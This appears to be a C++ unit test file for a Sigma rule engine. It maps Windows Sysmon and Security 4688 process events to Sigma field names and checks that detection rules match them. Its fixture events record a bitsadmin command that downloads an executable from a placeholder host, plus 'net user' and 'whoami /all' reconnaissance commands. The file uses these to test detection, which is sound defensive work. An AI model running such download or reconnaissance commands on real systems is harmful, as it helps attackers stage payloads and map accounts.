// Unit tests of sigma::EventFields: Sysmon and Security 4688 records seen
// through Sigma field names, and rules matched on parsed events.
#include <catch2/catch.hpp>

#include <algorithm>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "../support.hpp"
#include "ioc/events/process_event.hpp"
#include "ioc/sigma/rules.hpp"

using ioc::events::EventReader;
using ioc::events::ParseKind;
using ioc::events::ProcessEvent;
using ioc::sigma::EventFields;

namespace {

// Sysmon EventID 1 as an EVTX-to-JSON converter writes it (pretty-printed).
const char* const kSysmonJson = R"({
  "Event": {
    "System": {
      "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
      "EventID": 1,
      "TimeCreated": {"#attributes": {"SystemTime": "2025-12-10T04:33:20.562782Z"}},
      "Channel": "Microsoft-Windows-Sysmon/Operational",
      "Computer": "wks01.corp.local"
    },
    "EventData": {
      "RuleName": "-",
      "UtcTime": "2025-12-10 04:33:20.557",
      "ProcessGuid": "{0197231e-f810-6938-b710-000000000800}",
      "ProcessId": 4444,
      "Image": "C:\\Windows\\System32\\bitsadmin.exe",
      "OriginalFileName": "bitsadmin.exe",
      "CommandLine": "bitsadmin /transfer n https://example.com/a.exe C:\\Users\\Public\\a.exe",
      "CurrentDirectory": "C:\\Users\\x\\",
      "User": "CORP\\x",
      "LogonId": "0x317fb",
      "TerminalSessionId": 1,
      "IntegrityLevel": "Medium",
      "Hashes": "MD5=4FCFE1D61E6D962F06CE2B61FC11BC0F,SHA256=6FEB16602A2FD1158C6F7E56E3B05A5E9AC01E88089535978C890EC6954A5AFA,IMPHASH=44794EEDDEB70144ABA2F1483E762F30",
      "ParentProcessGuid": "{0197231e-0000-0000-0000-000000000001}",
      "ParentProcessId": 14736,
      "ParentImage": "C:\\Windows\\System32\\cmd.exe",
      "ParentCommandLine": "cmd.exe /c run.bat",
      "ParentUser": "CORP\\x"
    }
  }
})";

ProcessEvent parse(std::string_view record) {
  EventReader reader;
  auto r = reader.parse_line(record);
  INFO(r.error);
  REQUIRE(r.kind == ParseKind::kProcess);
  return r.event;
}

std::string get(const EventFields& f, std::string_view name) {
  const auto v = f.field(name);
  return v ? std::string(*v) : std::string("<absent>");
}

bool rule_matches(const std::string& detection, const ProcessEvent& e) {
  ioc::sigma::RuleSet set;
  const std::string yaml =
      "title: t\nlogsource:\n  category: process_creation\n  product: windows\n"
      "detection:\n" +
      detection;
  const auto rep = ioc::sigma::load_text(yaml, "t.yml", set);
  INFO(detection);
  REQUIRE(rep.problems.empty());
  REQUIRE(set.rules.size() == 1);
  return set.rules[0].matches(EventFields(e));
}

}  // namespace

TEST_CASE("EventFields on a Sysmon event", "[sigma][fields]") {
  const ProcessEvent e = parse(kSysmonJson);
  const EventFields f(e);
  CHECK(get(f, "Image") == "C:\\Windows\\System32\\bitsadmin.exe");
  CHECK(get(f, "image") == "C:\\Windows\\System32\\bitsadmin.exe");
  CHECK(get(f, "CommandLine") == e.command_line);
  CHECK(get(f, "ParentImage") == "C:\\Windows\\System32\\cmd.exe");
  CHECK(get(f, "ParentCommandLine") == "cmd.exe /c run.bat");
  CHECK(get(f, "User") == "CORP\\x");
  CHECK(get(f, "IntegrityLevel") == "Medium");
  CHECK(get(f, "LogonId") == "0x317fb");
  CHECK(get(f, "ProcessId") == "4444");
  CHECK(get(f, "ParentProcessId") == "14736");
  CHECK(get(f, "ProcessGuid") == "{0197231e-f810-6938-b710-000000000800}");  // as logged
  CHECK(get(f, "UtcTime") == "2025-12-10 04:33:20.557");
  CHECK(get(f, "Computer") == "wks01.corp.local");
  CHECK(get(f, "Hashes") == e.hashes);
  CHECK(get(f, "md5") == "4FCFE1D61E6D962F06CE2B61FC11BC0F");
  CHECK(get(f, "SHA256") == "6FEB16602A2FD1158C6F7E56E3B05A5E9AC01E88089535978C890EC6954A5AFA");
  CHECK(get(f, "Imphash") == "44794EEDDEB70144ABA2F1483E762F30");
  CHECK(get(f, "sha1") == "<absent>");
  CHECK(get(f, "OriginalFileName") == "bitsadmin.exe");
  CHECK(get(f, "CurrentDirectory") == "C:\\Users\\x\\");
  CHECK(get(f, "TerminalSessionId") == "1");
  CHECK(get(f, "ParentUser") == "CORP\\x");
  CHECK(get(f, "NoSuchField") == "<absent>");

  std::vector<std::string> values;
  f.for_each_value(
      [](void* ctx, std::string_view v) {
        static_cast<std::vector<std::string>*>(ctx)->emplace_back(v);
      },
      &values);
  CHECK(std::find(values.begin(), values.end(), "bitsadmin.exe") != values.end());
  CHECK(std::find(values.begin(), values.end(), "wks01.corp.local") != values.end());

  CHECK(
      rule_matches("  s:\n    Image|endswith: '\\bitsadmin.exe'\n    CommandLine|contains|windash: "
                   "' -transfer '\n"
                   "  condition: s\n",
                   e));
  CHECK(rule_matches(
      "  s:\n    ProcessId: 4444\n    Imphash: 44794eeddeb70144aba2f1483e762f30\n  condition: s\n",
      e));
  CHECK(rule_matches(
      "  s:\n    Hashes|contains: 'IMPHASH=44794EEDDEB70144ABA2F1483E762F30'\n  condition: s\n",
      e));
  CHECK_FALSE(rule_matches("  s:\n    ProcessId: 444\n  condition: s\n", e));
  CHECK(rule_matches("  k:\n    - 'example.com/a.exe'\n  condition: k\n", e));
  CHECK(rule_matches("  s:\n    Description: null\n  condition: s\n", e));
  CHECK(rule_matches("  s:\n    OriginalFileName|exists: true\n  condition: s\n", e));
}

TEST_CASE("EventFields on a Security 4688 event", "[sigma][fields]") {
  const ProcessEvent e = parse(ioc::test::kSecurity4688Xml);
  const EventFields f(e);
  CHECK(get(f, "Image") == "C:\\Windows\\System32\\net.exe");
  CHECK(get(f, "NewProcessName") == "C:\\Windows\\System32\\net.exe");
  CHECK(get(f, "CommandLine") == "\"C:\\windows\\system32\\net.exe\" user");
  CHECK(get(f, "ParentImage") == "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
  CHECK(get(f, "ProcessId") == "6700");        // 0x1a2c, the new process
  CHECK(get(f, "ParentProcessId") == "7456");  // 0x1d20, the creator
  CHECK(get(f, "User") == "THESHIRE\\pgustavo");
  CHECK(get(f, "IntegrityLevel") == "High");
  CHECK(get(f, "LogonId") == "0x10a7df");
  CHECK(get(f, "Computer") == "WORKSTATION5.theshire.local");
  CHECK(get(f, "ParentCommandLine") == "<absent>");
  CHECK(get(f, "ProcessGuid") == "<absent>");
  CHECK(get(f, "md5") == "<absent>");
  CHECK(get(f, "TokenElevationType") == "%%1937");

  CHECK(rule_matches(
      "  s:\n    Image|endswith: '\\net.exe'\n    ParentImage|endswith: '\\powershell.exe'\n"
      "    IntegrityLevel: High\n  condition: s\n",
      e));
  CHECK(rule_matches("  s:\n    ProcessId: 6700\n  condition: s\n", e));
  CHECK(rule_matches("  s:\n    ParentCommandLine: null\n  condition: s\n", e));
  CHECK_FALSE(rule_matches("  s:\n    ParentCommandLine|contains: 'x'\n  condition: s\n", e));
}

TEST_CASE("EventFields on a flattened OTRF record", "[sigma][fields]") {
  const ProcessEvent e = parse(
      R"({"Hostname":"WORKSTATION5","EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational",)"
      R"("Image":"C:\\Windows\\System32\\whoami.exe","CommandLine":"whoami /all","ProcessId":"1234"})");
  const EventFields f(e);
  CHECK(get(f, "Image") == "C:\\Windows\\System32\\whoami.exe");
  CHECK(get(f, "ProcessId") == "1234");
  CHECK(get(f, "Hostname") == "WORKSTATION5");
  CHECK(get(f, "Computer") == "WORKSTATION5");
  CHECK(get(f, "ParentImage") == "<absent>");
}
